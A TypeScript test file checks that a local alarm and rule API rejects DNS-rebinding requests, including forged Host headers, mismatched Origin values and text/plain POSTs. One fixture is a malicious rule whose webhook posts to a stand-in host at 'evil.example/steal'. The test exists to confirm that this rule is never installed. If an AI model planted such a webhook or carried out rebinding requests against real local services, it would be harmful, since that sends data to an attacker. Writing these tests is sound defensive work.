// DNS rebinding: a page on evil.example that re-resolves its name to 127.0.0.1 reaches the API
// with `Host: evil.example:PORT`. Over a real server on 127.0.0.1 — without a token, as in the
// demo, and with one — such requests are refused before any route runs, and nothing changes;
// the names the server is really reached under still work.

import assert from "node:assert/strict";
import { request } from "node:http";
import { after, before, describe, it } from "node:test";
import { resolveHttp } from "../../../src/config/defaults.js";
import { type Harness, makeAlarm, startHarness, TOKEN } from "./fixtures.js";

interface Raw {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  text: string;
}

/** An HTTP request with a Host header of our choosing (fetch does not let a caller set Host). */
function raw(
  port: number,
  opts: { method?: string; path: string; headers?: Record<string, string>; body?: string },
): Promise<Raw> {
  return new Promise((resolve, reject) => {
    const req = request(
      {
        host: "127.0.0.1",
        port,
        method: opts.method ?? "GET",
        path: opts.path,
        headers: opts.headers ?? {},
        agent: false,
      },
      (res) => {
        const chunks: Buffer[] = [];
        res.on("data", (c: Buffer) => chunks.push(c));
        res.on("end", () =>
          resolve({ status: res.statusCode ?? 0, headers: res.headers, text: Buffer.concat(chunks).toString("utf8") }),
        );
        res.on("error", reject);
      },
    );
    req.on("error", reject);
    req.end(opts.body);
  });
}

const EVIL_RULE = JSON.stringify({
  id: "evil",
  name: "evil",
  key: "meter",
  type: "rule",
  level: 1,
  conditions: { all: [{ fact: "voltage", operator: "greaterThan", value: 0 }] },
  webhook: "http://evil.example/steal",
});

describe("Host check without a token (the demo's loopback setup)", () => {
  let h: Harness;
  let port: number;
  before(async () => {
    h = await startHarness({
      config: resolveHttp({ host: "127.0.0.1", port: 0, allowedHosts: ["gw-01.plant.example"] }),
    });
    port = h.api.port;
    h.alarms.put(makeAlarm("a-1"));
  });
  after(async () => {
    await h.api.stop();
  });

  const evil = () => ({ Host: `evil.example:${port}`, Origin: `http://evil.example:${port}` });

  it("refuses a rebound page's reads with 403 and a JSON message naming the host", async () => {
    for (const path of ["/alert/list", "/status", "/rule/list", "/", "/assets/app.js", "/health", "/no-such-route"]) {
      const res = await raw(port, { path, headers: evil() });
      assert.equal(res.status, 403, path);
      assert.match(String(res.headers["content-type"]), /application\/json/);
      const body = JSON.parse(res.text) as { code: number; message: string };
      assert.equal(body.code, 100403, path);
      assert.match(body.message, /evil\.example/);
      assert.match(body.message, /http\.allowedHosts/);
      assert.ok(!res.text.includes("a-1"), path);
    }
  });

  it("refuses a rebound page's text/plain POSTs and changes nothing", async () => {
    const update = await raw(port, {
      method: "POST",
      path: "/alert/update",
      headers: { ...evil(), "Content-Type": "text/plain" },
      body: JSON.stringify({ id: "a-1", status: 0 }),
    });
    assert.equal(update.status, 403);
    const add = await raw(port, {
      method: "POST",
      path: "/rule/add",
      headers: { ...evil(), "Content-Type": "text/plain" },
      body: EVIL_RULE,
    });
    assert.equal(add.status, 403);
    assert.equal(h.alarms.get("a-1")?.status, 2, "alarm still active");
    assert.equal(h.alarms.resolves.length, 0);
    assert.equal(h.rules.byId.has("evil"), false, "no rule installed");
  });

  it("refuses a forged Host even without an Origin, and a missing or malformed Host", async () => {
    assert.equal((await raw(port, { path: "/alert/list", headers: { Host: "evil.example" } })).status, 403);
    assert.equal((await raw(port, { path: "/alert/list", headers: { Host: "127.0.0.1.evil.example" } })).status, 403);
    assert.equal((await raw(port, { path: "/alert/list", headers: { Host: "localhost.evil.example" } })).status, 403);
    assert.equal((await raw(port, { path: "/alert/list", headers: { Host: "10.1.2.3" } })).status, 403);
    assert.equal((await raw(port, { path: "/alert/list", headers: { Host: "a:b:c" } })).status, 403);
  });

  it("answers under loopback names and addresses, any port, and under an allowedHosts name", async () => {
    for (const host of [
      `127.0.0.1:${port}`,
      `localhost:${port}`,
      "localhost",
      `LOCALHOST:${port}`,
      `[::1]:${port}`,
      `127.0.0.2:${port}`,
      `gw-01.plant.example:${port}`,
      "GW-01.plant.example",
    ]) {
      const res = await raw(port, { path: "/alert/list", headers: { Host: host } });
      assert.equal(res.status, 200, host);
      assert.equal((JSON.parse(res.text) as { total: number }).total, 1, host);
    }
    assert.equal((await raw(port, { path: "/health", headers: { Host: `127.0.0.1:${port}` } })).status, 200);
  });

  it("compares Origin with the validated Host", async () => {
    const sameOrigin = await raw(port, {
      method: "POST",
      path: "/rule/add",
      headers: { Host: `localhost:${port}`, Origin: `http://localhost:${port}`, "Content-Type": "application/json" },
      body: EVIL_RULE.replace('"evil"', '"ok-rule"'),
    });
    assert.equal(sameOrigin.status, 200, sameOrigin.text);
    for (const origin of [`http://evil.example:${port}`, `http://localhost:${port + 1}`, "null", "not a url"]) {
      const res = await raw(port, {
        method: "POST",
        path: "/alert/update",
        headers: { Host: `localhost:${port}`, Origin: origin, "Content-Type": "text/plain" },
        body: JSON.stringify({ id: "a-1", status: 0 }),
      });
      assert.equal(res.status, 403, origin);
      assert.equal((JSON.parse(res.text) as { code: number }).code, 100403);
    }
    assert.equal(h.alarms.get("a-1")?.status, 2);
    const resolve = await raw(port, {
      method: "POST",
      path: "/alert/update",
      headers: { Host: `127.0.0.1:${port}`, Origin: `http://127.0.0.1:${port}`, "Content-Type": "application/json" },
      body: JSON.stringify({ id: "a-1", status: 0 }),
    });
    assert.equal(resolve.status, 200, resolve.text);
    assert.equal(h.alarms.get("a-1")?.status, 0);
  });
});

describe("Host check with a token", () => {
  let h: Harness;
  before(async () => {
    h = await startHarness();
  });
  after(async () => {
    await h.api.stop();
  });

  it("a forged Host is refused even with the right token", async () => {
    const port = h.api.port;
    const res = await raw(port, {
      path: "/status",
      headers: { Host: `evil.example:${port}`, Authorization: `Bearer ${TOKEN}` },
    });
    assert.equal(res.status, 403);
    const ok = await raw(port, {
      path: "/status",
      headers: { Host: `127.0.0.1:${port}`, Authorization: `Bearer ${TOKEN}` },
    });
    assert.equal(ok.status, 200);
  });
});
